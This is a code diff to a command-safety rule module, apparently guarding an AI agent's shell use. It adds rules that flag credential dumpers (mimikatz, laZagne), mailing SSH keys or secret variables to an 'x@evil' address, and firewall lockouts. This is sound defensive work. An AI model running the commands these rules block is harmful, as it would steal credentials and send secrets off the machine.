@@ -8,7 +8,9 @@ later (`high`, persistence). Password crackers and credential dumpers (`john`, `
 `unshadow`, `mimikatz`, `lazagne`) and mail with a secret attached (`mail -a ~/.ssh/id_rsa`)
 are `high` credentials/exfiltration. Reading (`sysctl -a`, `iptables -L`, `launchctl list`,
 `crontab -l`) passes. Each rule here runs before the program's own rule and only its blocking
-findings count (shell.py), so a rule elsewhere still judges what these let through.
+findings count (shell.py), so a rule elsewhere still judges what these let through. Options
+that run a command (optexec.py) and removals of the packages a machine needs (pkgrules.py) are
+host rules too.
 """
 
 from __future__ import annotations
@@ -16,15 +18,27 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 
+from nerve.safety.hunts import locate_hunt
 from nerve.safety.invocation import Invocation, flags_of, positionals
 from nerve.safety.machinerules import MACHINE_RULES
+from nerve.safety.optexec import OPTION_RULES
 from nerve.safety.paths import is_os_critical
+from nerve.safety.pkgrules import PACKAGE_RULES
+from nerve.safety.secretrules import secret_refs
 from nerve.safety.sensitive import secret_file, system_file
 from nerve.safety.verdict import LOW, Finding, wordset
 
 __all__ = ["HOST_RULES"]
 
 Rule = Callable[[Invocation], Finding]
+
+
+def _first(rule: Rule, then: Rule) -> Rule:
+    def both(inv: Invocation) -> Finding:
+        found = rule(inv)
+        return found if found.blocks else then(inv)
+
+    return both
 
 
 def _system(why: str) -> Finding:
@@ -68,6 +82,9 @@ def _firewall(inv: Invocation) -> Finding:
         return _system(f"{inv.prog} flushes the firewall rules")
     if ("P" in short or "--policy" in long) and "ACCEPT" in args:
         return _system(f"{inv.prog} -P ACCEPT opens the firewall")
+    policy = "P" in short or "--policy" in long
+    if policy and {"DROP", "REJECT"} & set(args) and {"INPUT", "OUTPUT"} & set(args):
+        return _system(f"{inv.prog} -P DROP cuts the machine off the network")  # ssh too
     return LOW
 
 
@@ -144,6 +161,11 @@ _DUMPERS = wordset(
 def _cracker(inv: Invocation) -> Finding:
     if inv.prog in _DUMPERS:
         return Finding("high", f"{inv.prog} dumps stored credentials", "credentials")
+    if inv.prog.startswith("python"):  # `python2 laZagne.py all`: the dumper is the script
+        script = next((a for a in inv.args if not a.startswith("-")), "")
+        if script.rsplit("/", 1)[-1] in _DUMPERS:
+            return Finding("high", f"{script} dumps stored credentials", "credentials")
+        return LOW
     for path in positionals(inv.args):
         if "shadow" in path or secret_file(path) is not None:
             why = f"{inv.prog} cracks the password hashes in {path}"
@@ -156,6 +178,10 @@ _ATTACH = frozenset({"-a", "-A", "--attach", "-attach"})
 
 def _mail(inv: Invocation) -> Finding:
     args = inv.args
+    bodies = [r.target for r in inv.cmd.redirects if r.op in ("<<", "<<-", "<<<")]
+    if secret_refs(" ".join(bodies).split()):  # `sendmail x@evil <<EOF ... $API_KEY`
+        why = f"{inv.prog} mails the secret ${secret_refs(' '.join(bodies).split())[0]}"
+        return Finding("high", why, "exfiltration")
     for i, arg in enumerate(args):
         value = args[i + 1] if arg in _ATTACH and i + 1 < len(args) else ""
         if arg.startswith("--attach="):
@@ -259,6 +285,7 @@ def _getent(inv: Invocation) -> Finding:
 
 HOST_RULES: dict[str, Rule] = {
     "setcap": _setcap,
+    **dict.fromkeys(("locate", "mlocate", "plocate"), locate_hunt),
     "getent": _getent,
     **dict.fromkeys(("aws", "gsutil", "gcloud", "rclone"), _cloud_copy),
     **dict.fromkeys(("tar", "unzip", "bsdtar"), _extract),
@@ -278,7 +305,10 @@ HOST_RULES: dict[str, Rule] = {
     "systemd-run": _systemd_run,
     **dict.fromkeys(("at", "batch"), _at),
     "crontab": _crontab,
-    **dict.fromkeys(_CRACKERS | _DUMPERS, _cracker),
-    **dict.fromkeys(("mail", "mailx", "mutt", "s-nail", "neomutt"), _mail),
+    **dict.fromkeys(_CRACKERS | _DUMPERS | {"python", "python2", "python3"}, _cracker),
+    **dict.fromkeys(("mail", "mailx", "mutt", "s-nail", "neomutt", "sendmail"), _mail),
     **MACHINE_RULES,
+    **PACKAGE_RULES,
 }
+for _prog, _rule in OPTION_RULES.items():  # options that run a command come first
+    HOST_RULES[_prog] = _first(_rule, HOST_RULES[_prog]) if _prog in HOST_RULES else _rule
